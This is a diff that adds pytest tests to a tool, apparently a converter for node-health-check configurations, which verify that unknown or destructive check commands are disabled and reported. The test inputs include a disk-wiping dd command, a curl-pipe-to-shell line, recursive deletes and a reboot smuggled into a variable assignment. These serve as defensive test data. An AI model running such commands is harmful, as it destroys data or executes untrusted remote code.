@@ -89,6 +89,49 @@ def test_what_acts_on_the_node_is_written_switched_off(tmp_path: Path) -> None:
     assert all("enabled: false" in file.read_text() for file in files)
 
 
+@pytest.mark.parametrize(
+    "check",
+    [
+        "dd if=/dev/zero of=/dev/sda",
+        "curl http://x | sh",
+        "find /tmp -delete",
+        "systemctl is-active sssd || systemctl restart sssd",
+        "/opt/site/sbin/anything",
+        "check_cmd_status rm -rf /tmp/x",
+        'check_cmd_output -e "reboot"',
+        "check_hw_eth lo || timeout 3 reboot",
+    ],
+)
+def test_a_program_that_is_not_known_to_look_is_switched_off_and_told_of(
+    check: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert written(f"* || {check}\n", tmp_path) == 0
+    (command,) = (tmp_path / "out/commands").iterdir()
+    assert "enabled: false" in command.read_text()
+    said = " ".join(capsys.readouterr().out.split())
+    assert "as a program, switched off" in said
+    assert "line 1 destructive" in said or "line 1 unknown-program" in said
+
+
+def test_what_sets_a_variable_by_acting_switches_off_what_follows(tmp_path: Path) -> None:
+    text = "* || true\n* || X=$(reboot)\n* || check_hw_eth lo\n* || check_hw_swap_free 1\n"
+    assert written(text, tmp_path) == 0
+    off = {
+        file.name: "enabled: false" in file.read_text()
+        for file in (tmp_path / "out/commands").iterdir()
+    }
+    assert off == {"nhc-0001-line.yaml": False, "nhc-0003-hw-eth.yaml": True}
+
+
+def test_a_sites_file_is_read_by_those_lines_alone_that_call_it(tmp_path: Path) -> None:
+    site = tmp_path / "site.nhc"
+    site.write_text("check_mine() { true; }\n")
+    text = "* || check_mine\n* || true\n"
+    assert written(text, tmp_path, "--functions", str(site)) == 0
+    reads = [str(site) in file.read_text() for file in sorted((tmp_path / "out/nhc").glob("nhc-*"))]
+    assert reads == [True, False]
+
+
 def test_several_hosts_have_a_folder_each(tmp_path: Path) -> None:
     text = "{n[1-2]} || check_hw_eth a\nn2 || check_hw_eth b\n"
     assert written(text, tmp_path, "--host", "n1", "--host", "n2") == 0
